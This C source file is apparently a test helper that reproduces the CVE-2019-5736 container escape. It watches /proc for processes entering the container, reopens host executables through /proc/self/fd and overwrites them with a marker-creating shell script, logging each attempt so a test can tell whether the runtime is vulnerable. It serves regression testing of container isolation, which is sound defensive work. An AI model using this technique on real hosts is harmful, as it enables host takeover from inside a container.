/*
 * The CVE-2019-5736 attacker, run inside a container by test_exec_escape.py.
 *
 *   watcher LOG MARKER
 *
 * Grabs /proc/<pid>/exe (O_PATH) of every process it may open, above all the
 * newest pid (ns_last_pid) where an entering process shows up, and logs what
 * each one is ("SAW <readlink>"). An executable that is not a file of the
 * container's own tree (a host binary, a memfd) is then reopened for writing
 * through /proc/self/fd/N as soon as nothing executes it any more, and a
 * shell script that creates MARKER is written over it: "WROTE <link>" on success, else
 * "DENIED <link> <errno text>" once.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 256

struct held { int fd; char link[256]; int done; };

static struct held held[MAX_HELD];
static int nheld;
static int log_fd;
static char payload[512];

static void log_line(const char *what, const char *link, const char *extra)
{
    dprintf(log_fd, "%s %s%s%s\n", what, link, extra ? " " : "", extra ? extra : "");
}

static int already_held(const char *link)
{
    for (int i = 0; i < nheld; i++)
        if (strcmp(held[i].link, link) == 0)
            return 1;
    return 0;
}

/* The path names a file of the container, and it is that very file. */
static int is_own_file(const char *link, const struct stat *st)
{
    struct stat here;

    return stat(link, &here) == 0 && here.st_dev == st->st_dev && here.st_ino == st->st_ino;
}

static void grab(int pid)
{
    char path[64], fdpath[64], link[256];
    struct stat st;
    ssize_t len;
    int fd;

    if (pid <= 1 || pid == getpid() || nheld == MAX_HELD)
        return;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
    len = readlink(fdpath, link, sizeof link - 1);
    if (len <= 0 || fstat(fd, &st) != 0) {
        close(fd);
        return;
    }
    link[len] = '\0';
    if (already_held(link)) {
        close(fd);
        return;
    }
    log_line("SAW", link, NULL);
    held[nheld].fd = fd;
    strcpy(held[nheld].link, link);
    held[nheld].done = is_own_file(link, &st);  /* never damage the container's own files */
    nheld++;
}

static void try_overwrite(struct held *h)
{
    char fdpath[64];
    int fd;

    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", h->fd);
    fd = open(fdpath, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY)
        return;  /* still executing somewhere: try again later */
    if (fd >= 0 && write(fd, payload, strlen(payload)) == (ssize_t)strlen(payload)) {
        log_line("WROTE", h->link, NULL);
    } else {
        log_line("DENIED", h->link, strerror(errno));
    }
    if (fd >= 0)
        close(fd);
    h->done = 1;
}

static int last_pid(void)
{
    char buf[32] = "";
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return -1;
    if (read(fd, buf, sizeof buf - 1) < 0)
        buf[0] = '\0';
    close(fd);
    return atoi(buf);
}

static void scan_all(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    if (!proc)
        return;
    while ((entry = readdir(proc)))
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
            grab(atoi(entry->d_name));
    closedir(proc);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    snprintf(payload, sizeof payload, "#!/bin/sh\ntouch %s\n", argv[2]);
    log_fd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (log_fd < 0)
        return 2;
    log_line("READY", "-", NULL);
    for (unsigned long round = 0;; round++) {
        int newest = last_pid();

        for (int pid = newest - 2; pid <= newest + 2; pid++)
            grab(pid);
        if (round % 64 == 0)
            scan_all();
        for (int i = 0; i < nheld; i++)
            if (!held[i].done)
                try_overwrite(&held[i]);
    }
}
